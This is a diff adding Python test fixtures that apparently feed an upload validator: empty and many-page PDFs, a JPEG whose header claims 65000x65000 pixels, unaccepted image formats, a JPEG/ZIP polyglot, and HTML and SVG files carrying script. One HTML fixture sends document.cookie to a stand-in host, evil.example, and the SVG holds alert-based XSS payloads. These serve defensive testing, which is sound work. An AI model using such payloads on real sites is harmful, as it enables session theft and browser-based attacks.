@@ -128,3 +128,106 @@ def zip_archive() -> bytes:
     with zipfile.ZipFile(out, "w") as archive:
         archive.writestr("licence.pdf", pdf())
     return out.getvalue()
+
+
+def _pdf_from_objects(objects: list[bytes]) -> bytes:
+    """A PDF made of these numbered objects (the first is the catalog), with a correct xref."""
+    out = bytearray(b"%PDF-1.4\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    for offset in offsets:
+        out += b"%010d 00000 n \n" % offset
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        xref,
+    )
+    return bytes(out)
+
+
+def zero_page_pdf() -> bytes:
+    """A well-formed PDF whose page tree is empty."""
+    return _pdf_from_objects(
+        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
+    )
+
+
+def many_page_pdf(pages: int) -> bytes:
+    """A compact, well-formed PDF with this many tiny blank pages (about 100 bytes a page)."""
+    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
+    return _pdf_from_objects(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
+            *[page] * pages,
+        ]
+    )
+
+
+def jpeg_bomb() -> bytes:
+    """A small JPEG whose header claims a huge image (65000 x 65000 pixels)."""
+    data = bytearray(photo(512, 384))
+    index = 2
+    while data[index + 1] not in (0xC0, 0xC1, 0xC2):  # walk the segments to the frame header
+        index += 2 + int.from_bytes(data[index + 2 : index + 4], "big")
+    data[index + 5 : index + 9] = (65000).to_bytes(2, "big") * 2
+    return bytes(data)
+
+
+def sliver_photo() -> bytes:
+    """A photo wide enough but only 20 pixels high."""
+    return photo(6000, 20)
+
+
+def black_png(width: int = 1200, height: int = 800) -> bytes:
+    """A PNG of pure black (a photo taken with the lens covered)."""
+    out = io.BytesIO()
+    Image.new("RGB", (width, height), (0, 0, 0)).save(out, "PNG")
+    return out.getvalue()
+
+
+def gif() -> bytes:
+    """A readable GIF (not an accepted type)."""
+    out = io.BytesIO()
+    Image.open(io.BytesIO(photo())).convert("P").save(out, "GIF")
+    return out.getvalue()
+
+
+def webp() -> bytes:
+    """A readable WebP photo (not an accepted type)."""
+    out = io.BytesIO()
+    Image.open(io.BytesIO(photo())).save(out, "WEBP")
+    return out.getvalue()
+
+
+def heic() -> bytes:
+    """The start of an HEIC photo, as iPhones take them (not an accepted type)."""
+    brand = b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"
+    return (len(brand) + 4).to_bytes(4, "big") + brand + b"\x00" * 200
+
+
+def html_with_script() -> bytes:
+    """An HTML page that runs a script."""
+    return (
+        b"<!DOCTYPE html><html><head><title>ID</title></head>"
+        b"<body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
+    )
+
+
+def svg_with_script() -> bytes:
+    """An SVG image that runs a script when opened."""
+    return (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n'
+        b'<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800" onload="alert(1)">'
+        b"<script>alert(document.domain)</script>"
+        b'<rect width="1200" height="800" fill="#ccc"/></svg>'
+    )
+
+
+def jpeg_header_zip() -> bytes:
+    """A polyglot: the first bytes of a JPEG, then a ZIP archive."""
+    return photo()[:20] + zip_archive()
